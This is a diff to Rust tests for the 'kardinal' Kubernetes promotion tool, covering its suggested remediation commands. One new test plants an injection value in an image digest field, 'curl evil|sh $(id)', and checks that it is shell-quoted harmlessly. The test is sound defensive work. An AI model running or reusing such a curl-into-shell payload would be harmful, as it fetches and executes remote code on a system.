@@ -420,7 +420,7 @@ fn refused_credentials_name_the_secret() {
         Outcome::Blocked,
         &[
             "no ETA: needs a person to name a Secret in `spec.git.secretRef` of the Pipeline and then to start anew",
-            "`kardinal create bundle my-app --image my-app=ghcr.io/myorg/my-app:1.29.0`",
+            "`kardinal create bundle my-app --image my-app=ghcr.io/myorg/my-app:1.29.0 -n default`",
         ],
     );
     // The same content, the same way.
@@ -431,8 +431,43 @@ fn refused_credentials_name_the_secret() {
         Some(object(json!({"repository": "https://example.com/config", "sha": "abc123def456"})));
     spec.intent = Some(object(json!({"target": "prod", "skip": ["staging"]})));
     let command = "`kardinal create bundle my-app --image my-app=ghcr.io/myorg/my-app:1.29.0@sha256:abc \
-         --git-commit https://example.com/config@abc123def456 --target prod --skip staging`";
+         --git-commit https://example.com/config@abc123def456 --target prod --skip staging -n default`";
     assert_eq!(remedy(&scene.steps[0], &scene.bundles[0]).unwrap().split(": ").last(), Some(command));
+}
+
+#[test]
+fn a_command_that_is_told_runs_nothing_that_is_written_in_a_bundle() {
+    let mut scene = refused("https://example.com/gitops refuses the credentials", None);
+    scene.bundles[0].spec.artifacts.images[0].digest = Some("sha256:a;curl evil|sh $(id) 'x'".to_owned());
+    let told = remedy(&scene.steps[0], &scene.bundles[0]).unwrap();
+    let quoted =
+        r"--image 'my-app=ghcr.io/myorg/my-app:1.29.0@sha256:a;curl evil|sh $(id) '\''x'\''' -n default`";
+    assert!(told.ends_with(quoted), "{told}");
+    // A rollback that is made as any other Bundle is none.
+    let spec = &mut scene.bundles[0].spec;
+    spec.provenance = Some(object(json!({"rollbackOf": "my-app-v1-30-0"})));
+    spec.intent = Some(object(json!({"target": "prod"})));
+    let told = remedy(&scene.steps[0], &scene.bundles[0]).unwrap();
+    assert!(told.ends_with("`kardinal rollback my-app --env prod -n default`"), "{told}");
+}
+
+#[test]
+fn a_graph_that_the_server_does_not_take_is_a_problem_and_not_promoting() {
+    let mut scene = Scene::new();
+    scene.graphs.clear();
+    let said = "the API server does not take the Graph `my-app-v1-29-0`: request is too large";
+    scene.bundles[0].status = Some(object(json!({
+        "phase": "Available",
+        "conditions": [{"type": "Ready", "status": "False", "reason": "GraphRefused", "message": said,
+            "lastTransitionTime": NOW}],
+    })));
+    for environment in ["dev", "prod"] {
+        scene.says(
+            environment,
+            Outcome::Blocked,
+            &["needs a person to change what the API server says", &format!("RESULT: BLOCKED: {said}")],
+        );
+    }
 }
 
 #[test]
